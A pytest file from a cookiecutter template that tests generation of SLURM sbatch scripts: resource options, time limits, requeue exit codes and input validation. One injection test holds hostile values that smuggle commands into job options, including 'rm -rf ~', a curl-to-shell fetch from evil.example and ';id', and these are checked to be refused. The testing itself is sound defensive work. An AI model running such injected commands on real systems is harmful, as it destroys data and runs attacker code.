"""sbatch scripts carry the recipe's layout and act on exit codes; the job options of `slurm` and `submit` are
refused when SLURM would not take them. (Only in a project generated with SLURM.)

No SLURM here: `srun` and `scontrol` are stubs on PATH that record their arguments.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from helpers import MULTINODE, RECIPES, executable, fail_with

from {{ cookiecutter.package_name }}.cli import main
from {{ cookiecutter.package_name }}.cluster.slurm import run_lines, sbatch_script
from {{ cookiecutter.package_name }}.errors import ExitCode, RecipeError
from {{ cookiecutter.package_name }}.recipe.load import load_recipe


def test_sbatch_script_for_a_four_node_recipe_has_its_nodes_tasks_and_gpus() -> None:
    script = sbatch_script(load_recipe(RECIPES / f"{MULTINODE}.yaml"), "mine.yaml", "12:00:00", "gpu", "proj")
    options = [line.removeprefix("#SBATCH ") for line in script.splitlines() if line.startswith("#SBATCH")]
    assert options[1:4] == ["--nodes=4", "--ntasks-per-node=8", "--gpus-per-node=8"]
    assert options[0] == "--job-name={{ cookiecutter.project_slug }}"
    assert {"--time=12:00:00", "--partition=gpu", "--account=proj", "--requeue", "--signal=USR1@120"} <= set(options)
    assert "--config mine.yaml" in script and script.endswith("\n".join(run_lines("mine.yaml")[-5:]) + "\n")


def test_cpu_recipe_asks_for_no_gpus(capsys: pytest.CaptureFixture[str]) -> None:
    main(["slurm", "cpu-debug", "--time", "1:00:00"])
    script = capsys.readouterr().out
    assert "#SBATCH --nodes=1\n#SBATCH --ntasks-per-node=2\n" in script and "gpus" not in script


def test_slurm_command_refuses_an_invalid_recipe_in_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("devices: 0\n")
    with pytest.raises(SystemExit) as exited:
        main(["slurm", str(bad)])
    assert exited.value.code == 2
    assert capsys.readouterr().err == "error: recipe 'bad.yaml': devices=0 must be >= 1\n"


@pytest.mark.parametrize("time", ["banana", "1:2:3:4", "-5", "24h"])
def test_slurm_command_refuses_a_time_limit_slurm_would_not_read(time: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["slurm", "cpu-debug", "--time", time])
    assert exited.value.code == 2
    assert capsys.readouterr().err == (
        f"error: --time={time!r} is not a SLURM time limit (MINUTES, HH:MM:SS, D-HH, D-HH:MM or D-HH:MM:SS)\n"
    )


@pytest.mark.parametrize("time", ["2", "1:30", "0-00:02:00"])
def test_slurm_command_refuses_a_time_limit_that_leaves_no_time_to_train(
    time: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["slurm", "cpu-debug", "--time", time])
    assert exited.value.code == 2
    assert capsys.readouterr().err.startswith(
        f"error: --time={time} leaves no time to train: the job is signalled 120 s before its time limit"
    )


def test_the_sbatch_script_names_the_recipe_relative_to_the_submit_folder_and_activates_the_environment(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(RECIPES.parent)
    main(["slurm", MULTINODE, "--time", "2-00:00:00"])
    script = capsys.readouterr().out
    assert f"--config recipes/{MULTINODE}.yaml " in script and str(RECIPES) not in script
    assert "source .venv/bin/activate" in script and "#SBATCH --time=2-00:00:00" in script


@pytest.mark.parametrize(("srun_exit", "script_exit"), [(0, 0), (ExitCode.REQUEUE, 0), (1, 1)])
def test_sbatch_script_reports_a_requeue_as_success_and_passes_failures_on(
    tmp_path: Path, srun_exit: int, script_exit: int
) -> None:
    executable(tmp_path / "srun", f'#!/bin/sh\necho "$@" > {tmp_path / "srun.txt"}\nexit {srun_exit}\n')
    job = tmp_path / "job.sbatch"
    job.write_text(sbatch_script(load_recipe(RECIPES / f"{MULTINODE}.yaml"), "mine.yaml"))
    env = {**os.environ, "PATH": f"{tmp_path}{os.pathsep}{os.environ['PATH']}", "SLURM_JOB_ID": "7"}
    env.update(SLURM_JOB_NUM_NODES="4", SLURM_NTASKS_PER_NODE="8")
    result = subprocess.run(["bash", str(job), "--train.max_steps", "5"], env=env, capture_output=True, text=True)
    assert result.returncode == script_exit, result.stderr
    assert ("job 7 preempted; rank 0 requeued it" in result.stdout) == (srun_exit == ExitCode.REQUEUE)
    called = (tmp_path / "srun.txt").read_text().split()
    assert called[called.index("--num_nodes") :] == [
        "--num_nodes", "4", "--devices", "8", "--checkpoint.resume", "auto", "--train.max_steps", "5",
    ]  # fmt: skip


def test_sbatch_template_signals_requeues_and_runs_like_the_generated_script() -> None:
    sbatch = RECIPES.parent / "scripts" / "slurm" / "train.sbatch"
    template = sbatch.read_text()
    assert "#SBATCH --requeue\n" in template and "#SBATCH --signal=USR1@120\n" in template
    assert "\n".join(run_lines('"$RECIPE"')) in template
    assert subprocess.run(["bash", "-n", str(sbatch)]).returncode == 0


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--job_name", "train\nrm -rf ~"),
        ("--partition", "gpu\ncurl evil.example | sh"),
        ("--account", "proj;id"),
        ("--job_name", "x" * 129),
        ("--partition", "gpu,"),
    ],
)
@pytest.mark.parametrize("command", ["slurm", "submit"])
def test_job_options_that_could_break_out_of_a_job_script_are_refused(
    command: str, option: str, value: str, capsys: pytest.CaptureFixture[str]
) -> None:
    err = fail_with([command, MULTINODE, option, value, "--time", "1:00:00"], capsys)
    assert f"{option}=" in err and "is not a SLURM name" in err
    assert "\n" not in err  # the value is shown with its newline escaped
    assert capsys.readouterr().out == ""  # no script printed


def test_a_recipe_path_with_a_newline_is_refused_and_paths_are_quoted() -> None:
    recipe = load_recipe(RECIPES / f"{MULTINODE}.yaml")
    with pytest.raises(RecipeError, match="control characters"):
        sbatch_script(recipe, "mine.yaml\nid", "1:00:00")
    script = sbatch_script(recipe, "my recipes/mine $(id).yaml", "1:00:00")
    quoted = "'my recipes/mine $(id).yaml'"
    assert quoted in script and "$(id)" not in script.replace(quoted, "")
